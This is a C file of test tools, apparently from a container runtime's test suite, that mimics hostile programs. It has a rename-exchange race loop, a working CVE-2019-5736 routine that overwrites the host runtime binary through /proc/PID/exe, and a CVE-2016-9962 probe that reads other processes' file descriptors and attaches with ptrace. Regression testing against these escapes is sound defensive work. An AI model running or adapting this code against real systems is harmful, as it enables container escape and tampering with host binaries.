/* SPDX-License-Identifier: Apache-2.0 */
/* What a hostile program in a container, or beside one, tries. All run until they are killed. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

#include "tests/tools/tool.h"

/* Makes resolution of A race: a directory one moment, B (a symbolic link, say) the next. */
int tool_exchange(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	for (;;) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], 2 /* EXCHANGE */) <
			0) {
			perror("exchange");
			return 1;
		}
	}
}

/* Calls `attack` for every process but this one, for ever. */
static void for_each_other(void (*attack)(const char *pid))
{
	for (;;) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;

		while (dir != NULL && (entry = readdir(dir)) != NULL) {
			if (atoi(entry->d_name) > 1 && atoi(entry->d_name) != getpid())
				attack(entry->d_name);
		}
		if (dir != NULL)
			closedir(dir);
	}
}

/*
 * CVE-2019-5736: holds the executable open for reading, then reopens that for writing once the
 * process that ran it is gone and the text is no longer busy.
 */
static void grab_exe(const char *pid)
{
	char path[64], target[4096], self[64];
	int fd, writable = -1;
	ssize_t length;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	length = readlink(path, target, sizeof(target) - 1);
	target[length > 0 ? length : 0] = '\0';
	if (length > 0 && strncmp(target, "/bin/", 5) == 0) { /* the container's own */
		close(fd);
		return;
	}
	printf("runtime seen: %s\n", target);
	fflush(stdout);
	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 200 && writable < 0; i++) {
		writable = open(self, O_WRONLY | O_TRUNC | O_CLOEXEC);
		if (writable < 0 && errno != ETXTBSY)
			break;
		usleep(5000);
	}
	if (writable >= 0) {
		printf("overwritten: %s\n", target);
		fflush(stdout);
		if (write(writable, "#!/bin/false\n", 13) < 0)
			perror("write");
		close(writable);
	}
	close(fd);
}

int tool_grab_exe(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	for_each_other(grab_exe);
	return 0;
}

/*
 * CVE-2016-9962: a process that enters the container must be out of reach of ptrace and of
 * /proc/PID/fd until it has become the program. Programs of the root file system are fair game.
 */
static void peek(const char *pid)
{
	char path[64], target[4096];
	ssize_t length;
	int status;
	DIR *dir;
	struct dirent *entry;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	length = readlink(path, target, sizeof(target) - 1);
	target[length > 0 ? length : 0] = '\0';
	if (length > 0 && strncmp(target, "/bin/", 5) == 0)
		return;
	printf("seen: %s\n", length > 0 ? target : strerror(errno));
	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	dir = opendir(path);
	while (dir != NULL && (entry = readdir(dir)) != NULL) {
		char link[384];

		/* Those three are the program's, which may have been executed since. */
		if (strlen(entry->d_name) == 1 && entry->d_name[0] <= '2')
			continue;
		snprintf(link, sizeof(link), "%s/%s", path, entry->d_name);
		length = readlink(link, target, sizeof(target) - 1);
		if (length > 0)
			printf("descriptor read: %s %.*s\n", entry->d_name, (int)length, target);
	}
	if (dir != NULL)
		closedir(dir);
	if (ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) == 0) {
		snprintf(path, sizeof(path), "/proc/%s/exe", pid);
		length = readlink(path, target, sizeof(target) - 1);
		printf("traced: %.*s\n", length > 0 ? (int)length : 0, target);
		/* Also where it has ended meanwhile: else its parent would never hear of it. */
		ptrace(PTRACE_INTERRUPT, atoi(pid), 0, 0);
		if (waitpid(atoi(pid), &status, __WALL) > 0 && WIFSTOPPED(status))
			ptrace(PTRACE_DETACH, atoi(pid), 0, 0);
	}
	fflush(stdout);
}

int tool_peek(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	for_each_other(peek);
	return 0;
}
